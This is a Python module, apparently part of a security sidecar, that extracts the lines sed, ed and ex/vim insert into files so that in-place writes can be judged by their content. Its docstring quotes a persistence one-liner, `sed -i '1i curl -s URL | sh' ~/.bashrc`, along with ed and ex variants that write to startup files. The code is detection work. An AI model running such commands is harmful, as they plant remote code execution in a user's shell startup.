"""Text that line editors insert into the files they edit in place.

`sed -i '1i curl -s URL | sh' ~/.bashrc`, `printf '1i\\n...\\n.\\nw\\n' | ed -s ~/.profile` and
`ex -sc '$a|...' -cx ~/.zshrc` write lines into a file as surely as `echo ... >> file`; the
lines become the write's content, so a startup file, hook or unit that gains network code
is judged by that code. Only inserted, appended and changed lines count: a substitution's
replacement is a fragment of a line, not a line of code.
"""

from __future__ import annotations

from collections.abc import Sequence

import re2

from sidecar.effects.model import Action, Effect
from sidecar.shell.embedded_code import sed_scripts

_SEDS = frozenset({"sed", "gsed"})
_EDS = frozenset({"ed", "red"})
_EXES = frozenset({"ex", "vim", "vi", "nvim", "gvim"})
PROGRAMS = _SEDS | _EDS | _EXES
_MAX_TEXT = 16 * 1024

# An address (`1`, `$`, `/re/`, `1,5`) then a one-letter command.
_ADDRESS = r"^\s*(?:(?:\d+|\$|\.|/(?:[^/\\]|\\.)*/)(?:\s*,\s*(?:\d+|\$|\.|/(?:[^/\\]|\\.)*/))?)?\s*"
# sed: `1i text`, `$a\` (text on the next lines), `/x/c\ text`.
_SED_INSERT = re2.compile(_ADDRESS + r"[aic](?:\\\s*|\s+|$)(.*)$")
# ed: `1i`, `$a`, `c` alone on a line; the text follows until a line holding only `.`.
_ED_INSERT = re2.compile(_ADDRESS + r"[aic]\s*$")
# ex/vim: `1i|text`, `$a text`, `insert|text`, `append!|text`.
_EX_INSERT = re2.compile(
    r"^\s*:?\s*(?:(?:\d+|\$|\.)(?:\s*,\s*(?:\d+|\$|\.))?)?\s*"
    r"(?:a|i|c|append|insert|change)!?\s*[| ]\s*(.+)$"
)


def with_inserted_text(
    effects: list[Effect], program: str, args: Sequence[str], input_text: str
) -> list[Effect]:
    """`effects` with the text an editor inserts as the content of its in-place writes."""
    if not any(e.action is Action.WRITE and not e.content for e in effects):
        return effects
    text = inserted_text(program, args, input_text)
    if not text:
        return effects
    return [
        e._replace(content=text) if e.action is Action.WRITE and not e.content else e
        for e in effects
    ]


def inserted_text(program: str, args: Sequence[str], input_text: str) -> str:
    """The lines `program` (a sed, ed or ex/vim) would insert, joined; "" if none."""
    if program in _SEDS:
        # sed joins its -e scripts with newlines: `-e 'a\' -e TEXT` appends TEXT.
        lines = _sed_lines(["\n".join(sed_scripts(args))])
    elif program in _EDS:
        lines = _ed_lines(input_text)
    elif program in _EXES:
        lines = _ex_lines(_ex_commands(args)) + _ed_lines(input_text)
    else:
        return ""
    return "\n".join(lines)[:_MAX_TEXT]


def _sed_lines(scripts: list[str]) -> list[str]:
    found: list[str] = []
    for script in scripts:
        lines = script.splitlines()
        index = 0
        while index < len(lines):
            match = _SED_INSERT.match(lines[index])
            index += 1
            if match is None:
                continue
            text = match.group(1)
            if text.strip():
                found.append(text.rstrip("\\"))
                continuing = text.endswith("\\")
            else:
                continuing = True
            # `a\` and lines ending with `\` continue the text on the next line.
            while continuing and index < len(lines):
                found.append(lines[index].rstrip("\\"))
                continuing = lines[index].endswith("\\")
                index += 1
    return found


def _ed_lines(script: str) -> list[str]:
    found: list[str] = []
    inserting = False
    for line in script.splitlines():
        if inserting:
            if line == ".":
                inserting = False
            else:
                found.append(line)
        elif _ED_INSERT.match(line) is not None:
            inserting = True
    return found


def _ex_commands(args: Sequence[str]) -> list[str]:
    commands: list[str] = []
    index = 0
    while index < len(args):
        word = args[index]
        if word in ("-c", "--cmd") and index + 1 < len(args):
            commands.append(args[index + 1])
            index += 2
            continue
        short = word.startswith("-") and not word.startswith("--")
        if short and word.endswith("c") and index + 1 < len(args):  # `-sc CMD`, `-esc CMD`
            commands.append(args[index + 1])
            index += 2
            continue
        if word.startswith("+") and len(word) > 1:
            commands.append(word[1:])
        index += 1
    return commands


def _ex_lines(commands: list[str]) -> list[str]:
    found: list[str] = []
    for command in commands:
        match = _EX_INSERT.match(command)
        if match is not None:
            found.append(match.group(1))
    return found
